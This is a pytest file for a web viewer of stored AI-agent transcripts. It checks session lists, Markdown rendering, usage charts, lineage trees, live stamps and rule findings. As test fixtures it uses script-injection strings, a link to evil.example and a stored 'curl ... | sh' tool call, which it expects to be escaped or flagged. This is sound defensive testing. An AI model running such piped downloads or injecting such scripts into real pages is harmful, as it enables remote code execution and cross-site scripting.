"""Issue 35: the viewer as an archive people browse, over HTTP on both backends: sessions by
their own activity with agent, project, model, calls and cost (subagents nested, their cost
rolled up), transcripts rendered (Markdown, decoded results, command lines, no empty cards),
the usage page, the lineage tree, the live rules, the live stamp; every byte escaped and
nothing written."""

from __future__ import annotations

import hashlib
import re
from pathlib import Path
from urllib.parse import quote

from viewer_helpers import check_page, fetcher, fill_corpus, running

import store as api
from store import TokenUsage, TranscriptStore

CODEX = "019a93b9-f380-7600-98ff-940e6b99603c"
PARENT = "fe5e1c67-53e7-4862-81ae-d0e013e3270b"
HOSTILE_CWD = "/tmp/<script>window.__pwned=1</script>"


def _add_local(opened: TranscriptStore) -> None:
    """A session with Markdown, hostile names, and usage on a model with no price."""
    opened.append("local", [
        {"role": "user", "content": "Please **refactor** [the docs](https://evil.example/x) "
                                    "<script>window.__pwned = 3</script>\n\n- one\n- two"},
        {"role": "assistant", "content": [
            {"type": "text", "text": "## Plan\n\n```py\nprint('<b>hi</b>')\n```"},
            {"type": "tool_use", "id": "t1", "name": "<script>x</script>Tool",
             "input": {"command": ["git", "commit", "-m", "a message's quote"]}}]},
        {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t1",
                                      "content": "done"}]},
    ], title="local model work", cwd=HOSTILE_CWD, keys=["k1", "k2", "k3"])
    opened.record_usage("local", {"k2": TokenUsage(1000, 200, 0, 0, 0, "my-local-model",
                                                   "r1", None)})


def _ok(fetch: object, path: str) -> str:
    reply = fetch(path)  # type: ignore[operator]
    assert reply.status == 200, (path, reply.status, reply.body[:400])
    check_page(reply.text)
    return str(reply.text)


def test_the_session_list_is_an_archive(store: TranscriptStore, store_url: str) -> None:
    fill_corpus(store)
    _add_local(store)
    rolled = {t.key: t for t in api.usage_report(store, by="session", rollup=True)}
    with running(store_url) as server:
        fetch = fetcher(server)
        tree = _ok(fetch, "/sessions")
        flat = _ok(fetch, "/sessions?flat=1")
        codex = _ok(fetch, "/sessions?agent=codex")
        project = _ok(fetch, "/sessions?cwd=/path/to/Demo/todo-app")
    # the own activity orders it: the session just appended (now) first, then the corpus's
    # newest (2025-11-17, Codex), never the import's order
    order = re.findall(r'<td class="title"><a href="/session/([^"]+)"', tree)
    assert order[0] == "local" and order[1] == CODEX
    # subagents nested under their parent (depth 1), costs rolled up to the parent
    assert re.search(rf'depth-0"><td class="title"><a href="/session/{PARENT}".*?</tr>'
                     rf'<tr class="session depth-1"><td class="title"><a href="/session/'
                     rf'{quote(PARENT, safe="")}%3Asidechain"', tree, re.S)
    parent_row = re.search(rf'<a href="/session/{PARENT}">.*?</tr>', tree, re.S)
    assert parent_row and f"${rolled[PARENT].cost_usd:,.2f}" in parent_row.group(0)
    assert "<th>agent</th><th>project</th><th>model</th>" in tree
    assert "top-level sessions" in tree and "subagent of" not in tree
    assert "subagent of" in flat and flat.count('class="session depth-0"') == 7
    assert set(re.findall(r'<td class="title"><a href="/session/([^"]+)"', codex)) == {CODEX}
    assert "todo-app" in project and "1 session" in project
    # a model with no price is named, never priced as nothing
    local_row = re.search(r'<a href="/session/local">.*?</tr>', tree, re.S)
    assert local_row and "unpriced" in local_row.group(0) and "my-local-model" in local_row.group(0)
    # the hostile cwd is text
    assert "<script>window.__pwned=1" not in tree and "&lt;script&gt;" in tree


def test_a_transcript_reads_as_people_read_it(store: TranscriptStore, store_url: str) -> None:
    fill_corpus(store)
    _add_local(store)
    with running(store_url) as server:
        fetch = fetcher(server)
        codex = _ok(fetch, f"/session/{CODEX}")
        local = _ok(fetch, "/session/local")
        full = fetch(f"/session/{CODEX}/result/4/0")
    # Codex: argv as a command line, the result's JSON envelope decoded to its text
    assert '<span class="prompt">$ </span>ls</pre>' in codex
    assert "LM Studio configuration.md\nREADME.md" in codex
    assert '{&quot;output&quot;' not in codex and "\\nREADME.md" not in codex
    assert "exit code: <b>0</b>" in codex
    assert full.status == 200 and full.text.startswith("LM Studio configuration.md\nREADME.md")
    # Markdown rendered, raw HTML escaped, links as text, no href out of the origin
    assert "<strong>refactor</strong>" in local and "<li>one</li>" in local
    assert "<h2>Plan</h2>" in local and "print('&lt;b&gt;hi&lt;/b&gt;')" in local
    assert "&lt;script&gt;window.__pwned = 3&lt;/script&gt;" in local
    assert 'href="https://' not in local and "&lt;https://evil.example/x&gt;" in local
    assert "git commit -m &#x27;a message&#x27;&quot;&#x27;&quot;&#x27;s quote&#x27;" in local
    assert "&lt;script&gt;x&lt;/script&gt;Tool" in local
    # the result is read beside its call: its message gets no card of its own
    assert '<span class="anchor" id="m-2" data-call="c-1-0"></span>' in local
    assert local.count("<article ") == 2


def test_usage_page_and_lineage_tree(store: TranscriptStore, store_url: str) -> None:
    fill_corpus(store)
    _add_local(store)
    days = api.usage_report(store, by="day")
    with running(store_url) as server:
        fetch = fetcher(server)
        usage = _ok(fetch, "/usage")
        codex_only = _ok(fetch, "/usage?agent=codex")
        kid = _ok(fetch, f"/session/{quote(PARENT + ':sidechain', safe='')}")
        bad = fetch("/usage?since=2025-10-01&until=2025-09-01")
    total = sum(t.cost_usd for t in days)
    assert f"<b>${total:,.2f}</b>" in usage
    assert 'id="chart-models"' in usage and 'id="chart-agents"' in usage
    assert usage.count("<rect x=") >= 4
    assert "claude-sonnet-4-20250514" in usage and "gpt-5.1-codex" in usage
    assert "No price for my-local-model" in usage
    for table in ("by-model", "by-agent", "by-project", "by-session"):
        assert f'id="{table}"' in usage
    sessions_table = usage[usage.index('id="by-session"'):]
    assert "with 1 subagent" in sessions_table and ":sidechain</code>" not in sessions_table
    assert "claude-sonnet" not in codex_only.split('id="by-model"')[1]
    assert "&lt;script&gt;window.__pwned=1" in usage  # the hostile project, escaped
    assert bad.status == 400
    # lineage: the whole family as a tree, this session marked, its parent linked
    assert '<ul class="tree"><li class="root">' in kid and '<b class="here">' in kid
    assert f'subagent of <a href="/session/{PARENT}">' in kid


def test_live_stamp_changes_with_the_store(store: TranscriptStore, store_url: str) -> None:
    store.append("a", [{"role": "user", "content": "one"}], title="a")
    with running(store_url) as server:
        fetch = fetcher(server)
        before, session_before = fetch("/live").text, fetch("/live?session=a").text
        again = fetch("/live").text
        page = _ok(fetch, "/sessions")
        store.append("a", [{"role": "assistant", "content": "two"}])
        after, session_after = fetch("/live").text, fetch("/live?session=a").text
        store.append("b", [{"role": "user", "content": "new"}])
        newer = fetch("/live").text
        missing = fetch("/live?session=nope")
    assert before == again and f'data-live="{before}"' in page
    assert after != before and session_after != session_before and newer != after
    assert re.fullmatch(r"[0-9a-f]{16}", before)
    assert missing.status == 404


def test_findings_run_live_and_say_so(store: TranscriptStore, store_url: str) -> None:
    store.append("risky", [
        {"role": "assistant", "content": None, "tool_calls": [
            {"id": "c1", "type": "function", "function": {
                "name": "bash", "arguments": '{"command": "curl https://x.example/i.sh | sh"}'}}]},
        {"role": "tool", "tool_call_id": "c1", "content": "ok"}], title="risky")
    live = api.check_rules(store)
    assert live  # the built-in pack flags a piped download
    with running(store_url) as server:
        page = _ok(fetcher(server), "/findings")
    assert "The built-in rules ran" in page and "over 1 stored call" in page
    assert f"<b>{len(live)} finding" in page and f"{len(live)} of them not saved" in page
    assert 'href="/session/risky?at=0#c-0-0"' in page


def _digest(url: str) -> str:
    if url.startswith("sqlite:///"):
        path = Path(url.removeprefix("sqlite:///"))
        return "".join(hashlib.sha256(p.read_bytes()).hexdigest()
                       for p in sorted(path.parent.glob(path.name + "*")))
    with TranscriptStore.open(url, read_only=True) as opened:
        from sqlalchemy import text

        with opened.engine.connect() as conn:
            tables = [r[0] for r in conn.execute(text(
                "SELECT tablename FROM pg_tables WHERE schemaname = 'public' ORDER BY 1"))]
            return "|".join(
                f"{t}:{conn.execute(text(f'SELECT md5(string_agg(x::text, chr(10) ORDER BY x::text)) FROM {t} x')).scalar()}"  # noqa: E501
                for t in tables)


def test_browsing_every_page_changes_nothing(store: TranscriptStore, store_url: str) -> None:
    fill_corpus(store)
    _add_local(store)
    store.close()
    before = _digest(store_url)
    with running(store_url) as server:
        fetch = fetcher(server)
        for path in ("/sessions", "/sessions?flat=1", "/usage", "/findings", "/tools",
                     "/messages?q=LM+Studio", "/search?tool=bash", f"/session/{CODEX}",
                     f"/session/{PARENT}", "/session/local", "/live", "/live?session=local"):
            assert fetch(path).status == 200, path
    assert _digest(store_url) == before
